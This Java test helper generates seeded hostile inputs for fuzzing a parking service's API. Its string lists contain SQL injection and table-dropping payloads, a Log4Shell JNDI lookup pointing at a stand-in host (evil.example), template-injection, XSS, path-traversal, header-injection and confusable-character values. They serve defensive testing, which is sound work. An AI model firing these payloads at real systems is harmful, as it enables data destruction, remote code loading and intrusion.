package dev.citypark.security;

import java.time.Instant;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Seeded adversarial values for the hostile-input campaign: strings, numbers, timestamps, plates with confusable
 * characters, injection strings, structurally broken JSON. Deterministic for a seed, so a failure is reproducible
 * with {@code -Dcitypark.hostile.seed=<seed>}.
 */
final class HostileInputs {

    /** Strings no id, enum or code field accepts. */
    static final List<String> STRINGS = List.of("", " ", "null", "undefined", "' OR '1'='1", "1' OR 1=1 --",
            "'; DROP TABLE parking_session; --", "\"; DELETE FROM bill; --", "\\\"},{\"admin\":true",
            "{\"$gt\":\"\"}", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "<script>alert(1)</script>",
            "../../../../etc/passwd", "..%2F..%2Fadmin", "%00", "\u0000", "\u0000\u0001\u0002", "\r\nX-Injected: 1",
            "🚗🚗🚗", "\u202eLIAP", "ＱＤ－Ｌ－００００１", "QD-L-00001\u200b", "qd-l-00001", "QD-L-00001 ",
            "QD-L-ＯＯＯＯ1", "OP-GAR-01", "OP-GAR-02", "-1", "0", "NaN", "Infinity", "1e309",
            "99999999999999999999999999999", "x".repeat(10_000), "é".repeat(3000), "\uD83D", "true");

    /** Plates that look like a plate but are not one (confusables, invisible characters, wrong shapes). */
    static final List<String> PLATES = List.of("鲁Β12345", "鲁B１２３４５", "鲁B12345\u200b", "\u200b鲁B12345",
            "鲁B12345\u202e", "魯B12345", "鲁8I2345", "鲁BI2345", "鲁BO2345", "鲁B1234", "鲁B1234567", "鲁B-12345",
            "鲁B 12345 ", "鲁\u0392\u0031\u0032\u0033\u0034\u0035", "B12345", "12345", "鲁鲁12345", "ЛУB12345",
            "鲁B12345'--", "鲁B12345\u0000", "鲁\uD83DB12345", "鲁B" + "1".repeat(500), "");

    /** JSON number tokens (some not JSON at all: NaN, Infinity, leading +, hex). */
    static final List<String> NUMBERS = List.of("NaN", "-NaN", "Infinity", "-Infinity", "1e309", "-1e309", "1e-400",
            "9223372036854775808", "-9223372036854775809", "18446744073709551616", "1".repeat(2000),
            "0." + "9".repeat(1500), "-0", "+1", "0x10", "1.5", "-1", "2147483648", "01", ".5", "1e", "-");

    /** JSON timestamps: far future and past, out-of-range fields, not instants at all. */
    static List<String> timestamps(Instant now) {
        return List.of("\"9999-12-31T23:59:59Z\"", "\"+10000-01-01T00:00:00Z\"", "\"-999999999-01-01T00:00:00Z\"",
                "\"0000-01-01T00:00:00Z\"", "\"2025-02-30T00:00:00Z\"", "\"2025-03-03T25:00:00Z\"",
                "\"2025-03-03T16:00:00+25:00\"", "\"" + now.plusSeconds(365L * 86400) + "\"",
                "\"" + now.plusSeconds(3600) + "\"", "\"yesterday\"", "\"2025-03-03\"", "1700000000", "-1",
                "\"P1D\"", "\"2025-03-03T16:00:00\"", "[]", "{}", "true", "\"" + "9".repeat(200) + "\"");
    }

    private final SplittableRandom random;

    HostileInputs(long seed) {
        this.random = new SplittableRandom(seed);
    }

    int nextInt(int bound) {
        return random.nextInt(bound);
    }

    boolean chance(double p) {
        return random.nextDouble() < p;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A JSON value of any hostile kind, as JSON text. */
    String jsonValue(Instant now) {
        return switch (random.nextInt(9)) {
            case 0 -> quote(pick(STRINGS));
            case 1 -> quote(pick(PLATES));
            case 2 -> pick(NUMBERS);
            case 3 -> pick(timestamps(now));
            case 4 -> pick(List.of("null", "true", "false", "[]", "{}", "[null]", "[\"a\",1]", "{\"a\":{}}"));
            case 5 -> deepNesting(random.nextInt(2) == 0 ? '[' : '{', 50 + random.nextInt(3000));
            case 6 -> "\"\\ud800\"";
            case 7 -> quote(pick(STRINGS) + pick(PLATES));
            default -> Long.toString(random.nextLong());
        };
    }

    /** A JSON string literal of {@code text}, escaped (control characters too). */
    static String quote(String text) {
        StringBuilder out = new StringBuilder(text.length() + 2).append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    }
                    else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    /** {@code depth} nested arrays or objects, closed. */
    static String deepNesting(char open, int depth) {
        StringBuilder out = new StringBuilder(depth * 6);
        for (int i = 0; i < depth; i++) {
            out.append(open == '[' ? "[" : "{\"a\":");
        }
        out.append("1");
        for (int i = 0; i < depth; i++) {
            out.append(open == '[' ? "]" : "}");
        }
        return out.toString();
    }

    /** Breaks a JSON document: truncation, a stray byte, a missing brace, duplicated keys, garbage. */
    String broken(String json) {
        return switch (random.nextInt(7)) {
            case 0 -> json.substring(0, random.nextInt(Math.max(1, json.length())));
            case 1 -> {
                int at = random.nextInt(Math.max(1, json.length()));
                yield json.substring(0, at) + pick(List.of("\u0000", "}", "\"", ",", "\\", "{{", "\uFFFF")) + json.substring(at);
            }
            case 2 -> json.replaceFirst("}$", "");
            case 3 -> json.startsWith("{") ? "{\"a\":1,\"a\":2," + json.substring(1) : json + json;
            case 4 -> "[" + json + "]";
            case 5 -> json + "garbage";
            default -> new String(randomBytes(1 + random.nextInt(200)), java.nio.charset.StandardCharsets.ISO_8859_1);
        };
    }

    byte[] randomBytes(int n) {
        byte[] bytes = new byte[n];
        for (int i = 0; i < n; i++) {
            bytes[i] = (byte) random.nextInt(256);
        }
        return bytes;
    }

    /** A JSON object of fields whose values are JSON text, in order. */
    static String object(java.util.Map<String, String> fields) {
        StringBuilder out = new StringBuilder("{");
        fields.forEach((name, value) -> {
            if (out.length() > 1) {
                out.append(',');
            }
            out.append(quote(name)).append(':').append(value);
        });
        return out.append('}').toString();
    }
}
